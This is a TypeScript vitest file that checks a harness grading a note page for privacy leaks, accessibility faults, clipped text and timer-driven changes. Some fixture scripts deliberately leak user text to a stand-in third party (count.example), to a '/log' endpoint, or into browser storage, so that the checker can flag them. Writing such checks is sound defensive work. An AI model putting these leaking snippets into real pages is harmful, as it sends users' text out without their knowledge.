import { afterAll, beforeAll, expect, test } from 'vitest';
import { scriptedPage, type ScriptedPage } from '../fixtures/scripted-page.ts';

/** A script that adds elements to a note; LONG is a text of many lines, WORD a word that is wider than the page. */
function inside(html: string): string {
  const long = Array.from({ length: 400 }, (_, index) => `word ${index + 1}`).join(' ');
  const text = html.replace('LONG', long).replace('WORD', 'a'.repeat(400));
  return `shown = (_, root) => root.firstChild.insertAdjacentHTML("beforeend", ${JSON.stringify(text)});`;
}

/** Lines of script that make the page of the note another one, and what of it fails: all steps pass on every page. */
const PAGES: readonly (readonly [what: string, script: string, failing?: string])[] = [
  ['the correct page', ''],
  ['a page that keeps its own settings', 'sent = () => { localStorage.theme = "violet"; document.cookie = "seen=1"; };'],
  ['a page that loads its own sign for a word of the note', 'shown = () => void fetch("/signs/Nine%20pages%20match.svg").catch(() => 0);'],
  [
    'a page that shows the picture',
    'shown = (note, root) => root.firstChild.append(Object.assign(new Image(), { src: note.picture, alt: "" }));',
  ],
  [
    'a page with a header and an address of its own',
    'sent = () => { history.replaceState({}, "", "#sent"); void fetch("/log", { headers: { "x-of": "1" } }).catch(() => 0); };',
  ],
  ['a page whose title is that of the note', 'shown = (note) => { document.title = note.text; };'],
  ['a page that asks a third party for what is not of the note', 'shown = () => void fetch("https://fonts.example/list").catch(() => 0);'],
  [
    'faint words of a disabled control',
    'shown = (_, root) => root.firstChild.insertAdjacentHTML("beforeend", "<button disabled style=color:#aaa>More</button>");',
  ],
  ['a faint sign beside the words', 'shown = (_, root) => root.firstChild.insertAdjacentHTML("beforeend", "<i style=color:#ddd>●</i>");'],
  ['a long text that scrolls in a low box', inside('<div style=height:3em;overflow:auto>LONG</div>')],
  ['a long word that breaks', inside('<p style=overflow-wrap:anywhere>WORD</p>')],
  ['words for a screen reader alone', inside('<p style="position:absolute;width:1px;height:1px;overflow:hidden">LONG</p>')],
  [
    'a closed box with lines that would be cut',
    inside('<div style=height:0;overflow:hidden><p style=line-height:20px;height:10px;overflow:hidden>Half</p></div>'),
  ],
  ['a closed box', inside('<div style=height:0;overflow:hidden>LONG</div>')],
  [
    'a box over all that stands in one that cuts',
    inside('<div style=height:1em;overflow:hidden>Open<p style=position:fixed;top:300px>LONG</p></div>'),
  ],
  ['a field as high as its letters', inside('<label>Sort <input value="by name" style="font-size:32px;height:32px;padding:0"></label>')],
  [
    'a field whose letters stand in its padding',
    inside('<label>Sort <input value="by name" style="font-size:32px;height:44px;padding:12px;box-sizing:border-box"></label>'),
  ],
  [
    'a low field that a library keeps beside the one that it draws',
    inside('<input aria-hidden="true" tabindex="-1" value="by name" style="height:13px;font-size:32px;opacity:0"><b>by name</b>'),
  ],
  ['a long text that is cut while more of it is offered', inside('<p style=height:3em;overflow:hidden>LONG</p><button>More</button>')],
  [
    'a page that has much to draw in each frame',
    'sent = () => { const draw = () => { for (let n = 0; n < 3e6; n++); requestAnimationFrame(draw); }; draw(); };',
  ],
  ['a page whose clock runs on', 'sent = () => setInterval(() => { live.textContent = ""; }, 1000);'],
  [
    'what comes soon after an answer',
    'sent = () => setTimeout(() => outbox.push({ type: "note/send", id: "1", text: "violet-harbour-27" }), 3000);',
  ],
  [
    'the answer is kept for the session',
    'typed = (text) => { sessionStorage.draft = JSON.stringify({ text }); };',
    'nothing-told the browser keeps "violet-harbour-27"',
  ],
  [
    'the text is kept in Base64 in a cache',
    'shown = (note) => void caches.open("n").then((cache) => cache.put("/n", new Response(btoa(note.text + " "))));',
    'nothing-told the browser keeps "Nine pages match"',
  ],
  [
    'the answer stays in the state of the history',
    'typed = (text) => history.replaceState({ text }, "");',
    'nothing-told the browser keeps "violet-harbour-27"',
  ],
  [
    'the text goes to the own server',
    'sent = (text) => navigator.sendBeacon("/log", JSON.stringify({ text }));',
    'nothing-told a request to .*/log (ping) tells "violet-harbour-27"',
  ],
  [
    'the answer goes to the own server in a header',
    'sent = (text) => void fetch("/log", { headers: { "x-draft": text } }).catch(() => 0);',
    'nothing-told a request to .*/log (fetch) tells "violet-harbour-27"',
  ],
  ['the answer stays in the address', 'typed = (text) => { location.hash = text; };', 'nothing-told the address of the page tells'],
  [
    'the host of the link is asked for its sign',
    'shown = () => void fetch("https://link.example/favicon.ico").catch(() => 0);',
    'nothing-told https://link.example/favicon.ico was asked (fetch), whose host a message names',
  ],
  [
    'the link is prefetched',
    'shown = (note) => document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: note.link }));',
    'nothing-told a request to https://link.example/page .* tells',
  ],
  [
    'a third party is told the text',
    'shown = (note) => { new Image().src = "https://count.example/?q=" + encodeURIComponent(note.text); };',
    'nothing-told a request to https://count.example/.* tells "Nine pages match"',
  ],
  ['the title tells the answer', 'typed = (text) => { document.title = text; };', 'nothing-told the title of the page tells'],
  [
    'each letter is spoken',
    'typed = (text) => { live.textContent = `${text.length} letters`; };',
    'announcements a live region said ".* letters", which no announcement is',
  ],
  [
    'an alert that comes with its words',
    'sent = () => document.body.insertAdjacentHTML("beforeend", "<p role=alert>Thank you</p>");',
    'announcements a live region said "Thank you"',
  ],
  [
    'the arrival is spoken again',
    'sent = () => { live.textContent = ""; setTimeout(() => { live.textContent = "A note came"; }, 20); };',
    'announcements live regions said note.arrived 2 times, at most 1 is right',
  ],
  [
    'faint words once the answer was sent',
    'sent = () => document.querySelector("section").insertAdjacentHTML("beforeend", "<p style=color:#999>Sent</p>");',
    'contrast too little contrast: "Sent" has 2.85 of 4.5',
  ],
  [
    'a text that ends in three dots',
    inside('<p style=overflow:hidden;text-overflow:ellipsis;white-space:nowrap>LONG</p>'),
    'nothing-cut cut off: "word 1 .*" from "word',
  ],
  [
    'a text whose later lines are cut',
    inside('<p style=height:3em;overflow:hidden>LONG</p>'),
    'nothing-cut cut off: "word 1 .*" from "word',
  ],
  [
    'lines cut at half of their height',
    inside('<p style=line-height:20px;height:10px;overflow:hidden>Half</p><b style=display:block>Whole</b>'),
    'nothing-cut cut off: "Half"',
  ],
  [
    'a control that wraps below a box of one line',
    inside(
      '<div style=width:20em;height:1.5em;overflow:clip>The name of the note <span style=display:inline-block;width:15em>Open the note</span></div>',
    ),
    'nothing-cut cut off: "Open the note"',
  ],
  [
    'a field that is too low for the letters in it',
    inside('<label>Sort <input value="by name" style="font-size:32px;height:22px;padding:0"></label>'),
    'nothing-cut cut off: "by name"',
  ],
  [
    'a field that is too low for its hint',
    inside('<label>Sort <input placeholder="a name" style="font-size:32px;height:20px"></label>'),
    'nothing-cut cut off: "a name"',
  ],
  [
    'a list to open whose padding leaves no room for its choice',
    inside(
      '<label>Sort <select style="font-size:32px;height:44px;padding:12px;box-sizing:border-box"><option>by name</option></select></label>',
    ),
    'nothing-cut cut off: "by name"',
  ],
  [
    'a list to open that is too low for its choice',
    inside('<label>Sort <select style="font-size:32px;height:20px"><option>by name</option></select></label>'),
    'nothing-cut cut off: "by name"',
  ],
  [
    'the arrival is spoken again minutes later',
    'sent = () => { live.textContent = ""; setTimeout(() => { live.textContent = "A note came"; }, 4 * 60_000); };',
    'by-itself time alone made a live region say "A note came"',
  ],
  [
    'a clock that was not stopped speaks at its end',
    `sent = () => {
      let left = 200;
      const timer = setInterval(() => { if (--left === 0) { clearInterval(timer); live.textContent = "Too late"; } }, 1000);
    };`,
    'by-itself time alone made a live region say "Too late"',
  ],
  [
    'the answer is sent again minutes later',
    'sent = (text) => setTimeout(() => outbox.push({ type: "note/send", id: "1", text }), 90_000);',
    'by-itself time alone made the surface send note/send',
  ],
  [
    'a note that is new again after eight minutes',
    'sent = () => setTimeout(() => { document.querySelector("b").textContent = "Unanswered"; }, 480_000);',
    'by-itself time alone changed state from note.answered to note.new',
  ],
  [
    'a note whose state goes',
    'sent = () => setTimeout(() => { document.querySelector("b").remove(); }, 30_000);',
    'by-itself time alone changed state from note.answered to no state',
  ],
  ['a long word that runs out of its box', inside('<p style=overflow:hidden>WORD</p>'), 'nothing-cut cut off: "aaa'],
];

let page: ScriptedPage;
beforeAll(async () => {
  page = await scriptedPage(import.meta.dirname, 'note');
});
afterAll(() => page.close());

test.each(PAGES.map(([what, script, failing]) => ({ what, script, failing })))('$what', async ({ script, failing }) => {
  const report = await page.judge(script);
  expect(report.fault).toBeUndefined();
  const [result] = report.results;
  const broken =
    result?.assertions.filter(({ verdict }) => verdict !== 'passed').map(({ step, message }) => `${step} ${message ?? ''}`) ?? [];
  if (failing === undefined) return expect([result?.verdict, broken]).toEqual(['passed', []]);
  const [id = ''] = failing.split(' ');
  expect(broken).toEqual([expect.stringMatching(`^invariant\\.${failing.replace(/[()[\]?]/g, '\\$&')}`)]);
  // The clause of the test was kept, the one of the invariant was not.
  const covers = page.program.specs[0]?.invariants?.find((one) => one.id === id)?.covers ?? [];
  expect(result).toMatchObject({ verdict: 'failed', covers: ['R1.1', ...covers], clauses: { 'R1.1': 'passed' } });
});
